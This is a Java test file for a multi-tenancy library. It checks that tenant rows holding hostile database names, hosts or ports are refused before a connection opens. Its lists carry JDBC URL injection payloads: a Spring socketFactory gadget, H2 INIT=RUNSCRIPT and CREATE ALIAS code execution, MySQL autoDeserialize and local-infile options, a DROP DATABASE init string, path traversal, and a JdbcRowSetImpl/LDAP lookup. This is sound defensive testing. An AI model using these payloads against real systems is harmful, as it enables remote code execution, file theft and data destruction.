package io.tenancy.integration;

import static org.assertj.core.api.Assertions.assertThat;

import io.tenancy.TenancyException;
import io.tenancy.connection.InvalidDatabaseConfigException;
import io.tenancy.pool.PoolLimits;
import io.tenancy.tenant.NewTenant;
import io.tenancy.tenant.Tenant;
import io.tenancy.test.SilentServer;
import io.tenancy.test.TestDatabase;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** P8: what would change a URL's meaning is refused before a socket is opened. */
@Tag("feature")
class HostileRowTest {

    private static final List<String> NAMES = List.of(
            "",
            "   ",
            "a\nb",
            "a b",
            "a\u200bb",
            "\u0430cme",
            "ＴＥＮＡＮＴ",
            "tenant_" + "é".repeat(40),
            "x".repeat(65),
            "acme?user=postgres&password=pgadmin",
            "acme?sslmode=disable",
            "acme?options=-c%20session_replication_role=replica",
            "acme%3Fuser=postgres",
            "acme#f",
            "acme&x=1",
            "../acme",
            "acme?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://%s:%d/x.xml",
            "acme?authenticationPluginClassName=x.Y",
            "acme?sslfactory=x.Y",
            "acme?allowLoadLocalInfile=true&allowUrlInLocalInfile=true",
            "acme?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
            "acme?%%61llowMultiQueries=true",
            "acme?propertiesTransform=x.Y",
            "acme?initSql=DROP DATABASE other",
            "acme;INIT=RUNSCRIPT FROM 'http://%s:%d/e.sql'",
            "acme;INIT=CREATE ALIAS E AS 'int e() { return 1; }'\\;CALL E()",
            "acme;ACCESS_MODE_DATA=r",
            "../../outside",
            "tcp://%s:%d/~/x");

    private static final List<String> HOSTS = List.of(
            "(host=%1$s,port=%2$d,allowLoadLocalInfile=true),db.local",
            "address=(host=%1$s)(port=%2$d)",
            "root:pw@%1$s",
            "%1$s:%2$d/x?a=",
            "%1$s,%1$s",
            "%1$s\n",
            "%1$s/x?a=",
            "[%1$s]",
            "2130706433",
            "0x7f000001",
            "127.1");

    @ParameterizedTest
    @EnumSource
    @DisplayName("N-03, N-04, N-05, N-15, N-16, N-17, N-19: names")
    void givenHostileNameInRow_whenConnecting_thenNoSocketIsOpened(TestDatabase kind) {
        try (Installation tenancy = Installation.on(kind);
                SilentServer server = SilentServer.open()) {
            Rows rows = new Rows(tenancy);
            Tenant evil = rows.insert("evil");
            boolean h2 = kind == TestDatabase.H2;

            for (String name : NAMES) {
                String payload = name.contains("%s") ? name.formatted(server.host(), server.port()) : name;
                rows.point(evil, h2 ? "" : server.host(), h2 ? 0 : server.port(), payload, "acme", null);

                assertRefused(rows.refusal(evil), "INVALID_DATABASE_NAME");
            }
            assertThat(server.connections()).isZero();
            assertThat(Files.exists(Path.of("../outside.mv.db"))).isFalse();
        }
    }

    @ParameterizedTest
    @EnumSource
    @DisplayName("N-18, N-20: hosts and ports")
    void givenHostileHostOrPortInRow_whenConnecting_thenNoSocketIsOpened(TestDatabase kind) {
        try (Installation tenancy = Installation.on(kind);
                SilentServer server = SilentServer.open()) {
            Rows rows = new Rows(tenancy);
            Tenant evil = rows.insert("evil");
            Integer port = kind == TestDatabase.H2 ? 0 : server.port();

            for (String host : HOSTS) {
                rows.point(evil, host.formatted(server.host(), server.port()), port, "acme", "acme", null);
                assertRefused(rows.refusal(evil), "INVALID_DATABASE_HOST");
            }
            for (int each : new int[] {-1, 65_536, 99_999, server.port() + 65_536}) {
                rows.point(evil, kind == TestDatabase.H2 ? "" : server.host(), each, "acme", "acme", null);
                assertRefused(rows.refusal(evil), "INVALID_DATABASE_PORT");
            }
            assertThat(server.connections()).isZero();
        }
    }

    @ParameterizedTest
    @EnumSource(mode = EnumSource.Mode.EXCLUDE, names = "H2")
    @DisplayName("the counter counts: a row that breaks no rule does open a socket")
    void givenPlainRow_whenConnecting_thenASocketIsOpened(TestDatabase kind) {
        PoolLimits brief = new PoolLimits(
                1,
                0,
                2,
                Duration.ofSeconds(1),
                Duration.ofMinutes(10),
                Duration.ofMinutes(30),
                Duration.ofMinutes(2),
                Duration.ZERO,
                Duration.ofSeconds(1),
                Duration.ofSeconds(1),
                Duration.ofSeconds(1));
        try (Installation tenancy = Installation.on(kind, settings -> settings.pools(brief));
                SilentServer server = SilentServer.open()) {
            Rows rows = new Rows(tenancy);
            Tenant plain = rows.point(rows.insert("plain"), server.host(), server.port(), "acme", "acme", null);

            assertThat(rows.refusal(plain).code()).isEqualTo("TENANT_DATABASE_UNAVAILABLE");
            assertThat(server.connections()).isPositive();
        }
    }

    @ParameterizedTest
    @EnumSource
    @DisplayName("N-21: data is nobody's configuration")
    void givenConnectionSettingsInData_whenConnecting_thenIgnored(TestDatabase kind) {
        try (Installation tenancy = Installation.on(kind)) {
            Tenant tenant = tenancy.lifecycle.create(NewTenant.of("acme", "Acme")
                    .data(Map.of(
                            "driver", "com.sun.rowset.JdbcRowSetImpl",
                            "url", "jdbc:h2:mem:x;INIT=CREATE TABLE hit(id int)",
                            "jdbcUrl", "ldap://127.0.0.1/x",
                            "dataSourceClassName", "x.Y",
                            "database_name", tenancy.database.name())));
            Rows rows = new Rows(tenancy);

            rows.note(tenant, 1);

            assertThat(rows.notes(tenant)).isOne();
        }
    }

    private static void assertRefused(TenancyException refused, String code) {
        assertThat(refused).isInstanceOf(InvalidDatabaseConfigException.class);
        assertThat(refused.code()).isEqualTo(code);
        assertThat(refused.getMessage()).doesNotContain("\n", "\u200b");
    }
}
